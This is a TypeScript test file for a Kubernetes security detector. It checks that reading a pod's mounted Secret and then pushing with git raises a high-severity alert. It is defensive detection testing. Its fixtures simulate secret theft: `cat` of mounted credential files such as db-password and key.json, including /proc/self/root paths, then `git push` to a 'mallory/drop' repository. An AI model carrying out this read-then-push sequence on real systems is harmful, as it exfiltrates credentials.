/**
 * A Secret mounted where the pod spec says (`/etc/orders/secrets/db-password`, GKE's `/var/secrets/google/key.json`):
 * sensitive for the containers that mount it once the pod is known from the API server (src/kubernetes/), as
 * `reads.extraSensitivePaths` would make it for every container. Before: `cat` of it, then a push, was only
 * `push-without-reads` (low).
 */
import { describe, expect, it } from 'vitest';
import { podSecretMounts } from '../../../src/kubernetes/pod-mounts.js';
import { PodSecretTable } from '../../../src/kubernetes/pod-table.js';
import { ordersPod, reportsPod } from '../../fixtures/kubernetes/pods.js';
import { brief, makeCorrelator, run, Scenario } from './builder.js';

function tableOf(...pods: unknown[]): PodSecretTable {
  const table = new PodSecretTable(100, { inc: () => undefined });
  for (const pod of pods) table.set(podSecretMounts(pod)!);
  return table;
}

/** `cat SECRET`, then an upload of it to a gist, in container `name` of the orders pod. */
function catThenUpload(
  o: { container?: string; path?: string; source?: 'tetragon' | 'falco'; pod?: string; namespace?: string } = {},
) {
  const s = new Scenario({ source: o.source });
  const c = s.container({
    namespace: o.namespace ?? 'shop',
    pod: o.pod ?? 'orders-7d9f8b6c4-x2kqp',
    name: o.container ?? 'orders',
  });
  const sh = s.init(c, '/bin/sh', '-c sleep infinity');
  const path = o.path ?? '/etc/orders/secrets/db-password';
  const cat = s.exec(c, '/bin/cat', path, { parent: sh });
  s.read(cat, path, 24).wait(50).exit(cat).wait(2_000);
  const git = s.exec(c, '/usr/bin/git', 'push https://github.com/mallory/drop.git main', { parent: sh });
  s.wait(300).exit(git);
  return s.events;
}

const verdict = (events: ReturnType<typeof catThenUpload>, o = {}) =>
  brief(run(events, o).alerts).map((a) => [a.rule, a.severity]);

describe('secret mounts learned from the pod spec', () => {
  it('cat of the mounted secret, then a push: high with the pod known, low without', () => {
    expect(verdict(catThenUpload())).toEqual([['push-without-reads', 'low']]);
    const podSecrets = tableOf(ordersPod());
    expect(verdict(catThenUpload(), { podSecrets })).toEqual([['sensitive-read-then-push', 'high']]);
    expect(verdict(catThenUpload({ source: 'falco' }), { podSecrets })).toEqual([['sensitive-read-then-push', 'high']]);
  });

  it("only for the containers that mount it, and not another pod's file at the same path", () => {
    const podSecrets = tableOf(ordersPod());
    // log-shipper mounts the service-account token only.
    expect(verdict(catThenUpload({ container: 'log-shipper' }), { podSecrets })).toEqual([
      ['push-without-reads', 'low'],
    ]);
    expect(verdict(catThenUpload({ pod: 'orders-other' }), { podSecrets })).toEqual([['push-without-reads', 'low']]);
  });

  it("GKE's key, a subPath file, a secrets-store CSI file; the projected volume's public ca.crt stays public", () => {
    const podSecrets = tableOf(reportsPod());
    const at = (path: string, container = 'reports') =>
      verdict(catThenUpload({ namespace: 'analytics', pod: 'reports-0', container, path }), { podSecrets })[0];
    expect(at('/var/secrets/google/key.json')).toEqual(['sensitive-read-then-push', 'high']);
    expect(at('/var/secrets/google/..2026_11_30_09_12_44.123456789/key.json')).toEqual([
      'sensitive-read-then-push',
      'high',
    ]);
    expect(at('/app/config/api-key')).toEqual(['sensitive-read-then-push', 'high']);
    expect(at('/proc/self/root/var/secrets/google/key.json')).toEqual(['sensitive-read-then-push', 'high']);
    expect(at('/proc/1/task/1/root/app/config/api-key')).toEqual(['sensitive-read-then-push', 'high']);
    expect(at('/mnt/secrets-store/db-creds')).toEqual(['sensitive-read-then-push', 'high']);
    expect(at('/key/key.json', 'debugger-8kq2v')).toEqual(['sensitive-read-then-push', 'high']);
    expect(at('/etc/reports/tls/ca.crt')).toEqual(['push-without-reads', 'low']);
    expect(at('/app/config/settings.yaml')).toEqual(['push-without-reads', 'low']);
  });

  it('reads.notSensitivePaths still declassifies', () => {
    const podSecrets = tableOf(ordersPod());
    const config = { reads: { notSensitivePaths: ['/etc/orders/secrets/db-password'] } };
    expect(verdict(catThenUpload(), { podSecrets, config })).toEqual([['push-without-reads', 'low']]);
    expect(verdict(catThenUpload({ path: '/etc/orders/secrets/api-token' }), { podSecrets, config })).toEqual([
      ['sensitive-read-then-push', 'high'],
    ]);
  });

  it('a pod known after the container started is looked up again (the table changed), a deleted one forgotten', () => {
    const podSecrets = new PodSecretTable(100, { inc: () => undefined });
    const events = catThenUpload();
    // The container's first events (its exec) arrive before the pod is listed; the cat after it.
    const cut = events.findIndex((e) => e.kind === 'file');
    const { correlator } = makeCorrelator({ podSecrets });
    const alerts = [...correlator.ingest(events.slice(0, cut))];
    podSecrets.set(podSecretMounts(ordersPod())!);
    alerts.push(...correlator.ingest(events.slice(cut)), ...correlator.flush());
    expect(brief(alerts).map((a) => [a.rule, a.severity])).toEqual([['sensitive-read-then-push', 'high']]);

    podSecrets.delete('shop', 'orders-7d9f8b6c4-x2kqp');
    expect(verdict(catThenUpload(), { podSecrets })).toEqual([['push-without-reads', 'low']]);
  });

  it('a container whose first events had no pod (the sensor had no metadata yet) is looked up again once they do', () => {
    const podSecrets = tableOf(ordersPod());
    const events = catThenUpload();
    const cat = events.findIndex((e) => e.kind === 'file');
    const first = events[cat]!;
    if (first.kind !== 'file') throw new Error('no read');
    // A read of an ordinary file before the cat, from an event without pod metadata.
    const early = { ...first, pod: null, file: { ...first.file, path: '/etc/os-release' } };
    const withEarly = [...events.slice(0, cat).map((e) => ({ ...e, pod: null })), early, ...events.slice(cat)];
    expect(brief(run(withEarly, { podSecrets }).alerts).map((a) => [a.rule, a.severity])).toEqual([
      ['sensitive-read-then-push', 'high'],
    ]);
  });
  it("a projected volume's configMap files beside named secret items are not secrets; the items are, through ..data", () => {
    const pod = reportsPod();
    const bundle = pod.spec.volumes.find((v) => v.name === 'bundle')!;
    bundle.projected!.sources[1] = { configMap: { name: 'reports-ca', items: [{ key: 'cfg', path: 'reports.yaml' }] } };
    const podSecrets = tableOf(pod);
    const at = (path: string) =>
      verdict(catThenUpload({ namespace: 'analytics', pod: 'reports-0', container: 'reports', path }), {
        podSecrets,
      })[0];
    expect(at('/etc/reports/tls/reports.yaml')).toEqual(['push-without-reads', 'low']);
    expect(at('/etc/reports/tls/..2026_12_01_03_47_44.123456789/reports.yaml')).toEqual(['push-without-reads', 'low']);
    expect(at('/etc/reports/tls/tls.key')).toEqual(['sensitive-read-then-push', 'high']);
    expect(at('/etc/reports/tls/..2026_12_01_03_47_44.123456789/tls.key')).toEqual([
      'sensitive-read-then-push',
      'high',
    ]);
    expect(at('/etc/reports/tls/..data/tls.key')).toEqual(['sensitive-read-then-push', 'high']);
    expect(at('/var/run/vault/..2026_12_01_03_47_44.123456789/token')).toEqual(['sensitive-read-then-push', 'high']);
  });
});
